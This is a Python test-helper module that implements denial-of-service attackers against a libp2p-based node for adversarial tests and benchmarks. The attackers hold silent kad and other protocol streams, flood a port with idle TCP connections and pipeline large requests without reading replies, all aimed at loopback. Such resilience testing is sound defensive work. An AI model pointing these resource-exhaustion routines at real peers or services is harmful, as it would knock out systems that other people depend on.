"""Attacking peers for tests/adversarial and benchmarks/attack_bench.py: py-libp2p hosts
and raw sockets that hold silent kad streams (or silent streams of another protocol, or
yamux streams that never negotiate one), flood a port with silent TCP connections,
or pipeline big requests and never read the replies. Everything targets 127.0.0.1 and is
bounded in count and time by the caller's cancel scope.

Attackers dial *from* `ATTACKER_IP` (127.0.0.2: all of 127/8 is loopback on Linux) and
honest peers from 127.0.0.1, so a per-IP limit can tell them apart as it would on the
internet."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from functools import partial
from typing import Any

import trio
from libp2p.abc import IHost, INetStream
from libp2p.kad_dht.common import PROTOCOL_ID as KAD_PROTOCOL
from libp2p.peer.id import ID
from libp2p.peer.peerinfo import PeerInfo

from punch_net.messaging import codec
from punch_net.messaging.protocol import CommandSession

ATTACKER_IP = "127.0.0.2"
HONEST_IP = "127.0.0.1"


def dial_from(host: IHost, ip: str) -> None:
    """Make `host`'s TCP dials leave from `ip` (the kernel would pick 127.0.0.1)."""
    swarm: Any = host.get_network()
    for transport in swarm.transport_manager.get_transports():
        if hasattr(transport, "dial_with_source"):
            def dial(maddr: Any, _t: Any = transport) -> Any:
                return _t.dial_with_source(maddr, (ip, 0))

            transport.dial = dial


@asynccontextmanager
async def attacker_host(ip: str = ATTACKER_IP, dial_timeout: float = 5.0) -> AsyncIterator[IHost]:
    """A fresh identity (identities are free) listening and dialing on `ip`."""
    import multiaddr

    from punch_net.p2p.host import build_host
    from punch_net.p2p.identity import new_identity

    host = build_host(new_identity(), dial_timeout)
    dial_from(host, ip)
    async with host.run([multiaddr.Multiaddr(f"/ip4/{ip}/tcp/0")]):
        try:
            yield host
        finally:
            with trio.CancelScope(shield=True), trio.move_on_after(5):
                await host.close()


# ---------------------------------------------------------------- 1. silent kad streams


async def hold_silent_kad_streams(host: IHost, target: PeerInfo, per_identity: int,
                                  opened: list[int] | None = None) -> None:
    """Keep `per_identity` silent kad streams open to `target`, reopening any that is reset,
    until cancelled. `opened[0]` counts the streams opened."""
    await hold_silent_streams(host, target, per_identity, str(KAD_PROTOCOL), opened)


async def hold_silent_streams(host: IHost, target: PeerInfo, per_identity: int, protocol: str | None,
                              opened: list[int] | None = None) -> None:
    """Keep `per_identity` silent streams of `protocol` open to `target` (None: raw yamux
    streams that never say which protocol they want), reopening any that is reset or
    closed, until cancelled. `opened[0]` counts the streams opened."""

    async def open_one() -> Any:
        if protocol is None:
            conn = host.get_network().get_connections(target.peer_id)[0]  # type: ignore[attr-defined]
            return await conn.muxed_conn.open_stream()
        return await host.new_stream(target.peer_id, [protocol])  # type: ignore[list-item]

    async def one() -> None:
        while True:
            try:
                with trio.fail_after(10):
                    if not host.get_network().get_connections(target.peer_id):  # type: ignore[attr-defined]
                        await host.connect(target)
                    stream = await open_one()
                if opened is not None:
                    opened[0] += 1
                try:
                    while await stream.read(1024):  # never writes: waits until the server gives up on us
                        pass  # (it may speak first: multistream-select's header)
                except Exception:
                    pass
            except Exception:
                await trio.sleep(0.1)

    async with trio.open_nursery() as nursery:
        for _ in range(per_identity):
            nursery.start_soon(one)


async def kad_attack(target: PeerInfo, identities: int, per_identity: int, ip: str = ATTACKER_IP,
                     opened: list[int] | None = None, *, protocol: str | None = str(KAD_PROTOCOL),
                     task_status: Any = trio.TASK_STATUS_IGNORED) -> None:
    """`identities` attacker hosts each holding `per_identity` silent streams of `protocol`
    (kad by default; None: never negotiated)."""
    async with trio.open_nursery() as nursery:
        hosts: list[IHost] = []

        async def run_one(task_status: Any = trio.TASK_STATUS_IGNORED) -> None:
            async with attacker_host(ip) as host:
                hosts.append(host)
                task_status.started()
                await hold_silent_streams(host, target, per_identity, protocol, opened)

        for _ in range(identities):
            await nursery.start(run_one)
        task_status.started()


# ---------------------------------------------------------------- 2. connection flood


async def silent_connections(port: int, count: int, ip: str = ATTACKER_IP, host: str = "127.0.0.1",
                             opened: list[int] | None = None, *,
                             task_status: Any = trio.TASK_STATUS_IGNORED) -> None:
    """`count` TCP connections from `ip` that never send a byte; each is reopened when the
    server closes it (a real flood), until cancelled."""
    ready = trio.Event()
    started = [0]

    async def one() -> None:
        first = True
        while True:
            try:
                stream = await trio.open_tcp_stream(host, port, local_address=ip)
            except OSError:
                await trio.sleep(0.2)
                continue
            if opened is not None:
                opened[0] += 1
            if first:
                first = False
                started[0] += 1
                if started[0] >= count:
                    ready.set()
            async with stream:
                try:
                    while await stream.receive_some(4096):
                        pass
                except Exception:
                    pass
            await trio.sleep(0.05)

    async with trio.open_nursery() as nursery:
        for _ in range(count):
            nursery.start_soon(one)
        with trio.move_on_after(30):
            await ready.wait()
        task_status.started()


# ---------------------------------------------------------------- 3. non-reading peers


async def pipeline_without_reading(host: IHost, target: PeerInfo, size: int = 1 << 20,
                                   sent: list[int] | None = None) -> None:
    """Pipeline `echo` requests of ~`size` bytes on one command stream and never read a
    reply; when the server gives up on the stream, open another. Until cancelled."""
    body = "x" * (size - 200)
    n = 0
    while True:
        try:
            with trio.fail_after(10):
                if not host.get_network().get_connections(target.peer_id):  # type: ignore[attr-defined]
                    await host.connect(target)
                stream = await host.new_stream(target.peer_id, [codec.PROTOCOL_ID])  # type: ignore[list-item]
            while True:
                n += 1
                req = codec.Request(f"a-{n}", "echo", {"data": body}, str(host.get_id()))
                await stream.write(codec.encode_json(req.to_json()))
                if sent is not None:
                    sent[0] += 1
        except Exception:
            await trio.sleep(0.2)


async def non_reading_attack(target: PeerInfo, peers: int, size: int = 1 << 20, ip: str = ATTACKER_IP,
                             sent: list[int] | None = None, *,
                             task_status: Any = trio.TASK_STATUS_IGNORED) -> None:
    async with trio.open_nursery() as nursery:
        async def run_one(task_status: Any = trio.TASK_STATUS_IGNORED) -> None:
            async with attacker_host(ip) as host:
                task_status.started()
                await pipeline_without_reading(host, target, size, sent)

        for _ in range(peers):
            await nursery.start(run_one)
        task_status.started()


# ---------------------------------------------------------------- honest peers


@asynccontextmanager
async def command_session(host: IHost, peer: ID) -> AsyncIterator[CommandSession]:
    """A command session from `host` to `peer` (its reader runs until the block ends)."""
    stream: INetStream = await host.new_stream(peer, [codec.PROTOCOL_ID])  # type: ignore[list-item]
    session = CommandSession(stream, sender=str(host.get_id()))
    async with trio.open_nursery() as nursery:
        nursery.start_soon(session.run_reader)
        try:
            yield session
        finally:
            await session.aclose()
            nursery.cancel_scope.cancel()


async def honest_echo(host: IHost, peer: ID, timeout: float = 5.0) -> None:
    """One honest `echo` on a fresh command stream; raises unless it comes back intact."""
    with trio.fail_after(timeout):
        async with command_session(host, peer) as session:
            resp, _ = await session.request("echo", {"text": "hello"}, timeout=timeout)
    if not resp.ok or resp.result != {"text": "hello"}:
        raise AssertionError(f"bad echo reply: {resp}")


# ---------------------------------------------------------------- the victim's footprint


def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def open_fds(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


# ---------------------------------------------------------------- an attacker in its own process


class AttackerProcess:
    """`python attackers.py KIND ADDR N` in its own process (so the attack's CPU does not
    slow the test's honest peer, only the victim's); prints a running count each second."""

    def __init__(self, proc: subprocess.Popen[str]) -> None:
        self.proc = proc
        self.count = 0

    def read_count(self) -> int:
        """The attacker's last reported count (streams, connections or requests opened)."""
        return self.count


@contextmanager
def attacker_process(kind: str, addr: str, n: int, ready_timeout: float = 60.0) -> Iterator[AttackerProcess]:
    """Start an attacker (`kad`: N identities × 4 silent kad streams; `ping`, `autonat`:
    N identities × 8 silent streams of that protocol; `unnegotiated`: N identities × 32
    yamux streams that never name a protocol; `flood`: N silent connections; `noread`: N
    non-reading peers), wait until it is in full swing, kill it (by PID) at the end."""
    import threading

    from punch_harness import die_with_parent

    proc = subprocess.Popen([sys.executable, __file__, kind, addr, str(n)], stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, text=True,
                            preexec_fn=die_with_parent)
    attacker = AttackerProcess(proc)
    ready = threading.Event()

    def pump() -> None:
        assert proc.stdout is not None
        for line in proc.stdout:
            if line.startswith("ready"):
                ready.set()
            elif line.startswith("{"):
                attacker.count = int(json.loads(line)["count"])

    threading.Thread(target=pump, daemon=True).start()
    try:
        if not ready.wait(ready_timeout):
            raise AssertionError(f"attacker {kind} did not start within {ready_timeout:g}s")
        yield attacker
    finally:
        proc.kill()
        proc.wait(10)


SILENT_PROTOCOLS = {"ping": "/ipfs/ping/1.0.0", "autonat": "/libp2p/autonat/1.0.0"}


async def _attacker_main(kind: str, addr: str, n: int) -> None:
    from punch_harness import peer_info_of

    from punch_net.p2p.helpers import quiet_libp2p_logging

    quiet_libp2p_logging()
    target = peer_info_of(addr)
    count = [0]
    async with trio.open_nursery() as nursery:
        if kind == "kad":
            await nursery.start(kad_attack, target, n, 4, ATTACKER_IP, count)
        elif kind in SILENT_PROTOCOLS:
            await nursery.start(partial(kad_attack, target, n, 8, ATTACKER_IP, count, protocol=SILENT_PROTOCOLS[kind]))
        elif kind == "unnegotiated":
            await nursery.start(partial(kad_attack, target, n, 32, ATTACKER_IP, count, protocol=None))
        elif kind == "flood":
            port = int(addr.split("/tcp/")[1].split("/")[0])
            await nursery.start(silent_connections, port, n, ATTACKER_IP, "127.0.0.1", count)
        elif kind == "noread":
            await nursery.start(non_reading_attack, target, n, 1 << 20, ATTACKER_IP, count)
        else:
            raise SystemExit(f"unknown attack {kind}")
        print("ready", flush=True)
        while True:
            print(json.dumps({"count": count[0]}), flush=True)
            await trio.sleep(1)


if __name__ == "__main__":
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # a flood needs its sockets
    trio.run(_attacker_main, sys.argv[1], sys.argv[2], int(sys.argv[3]))
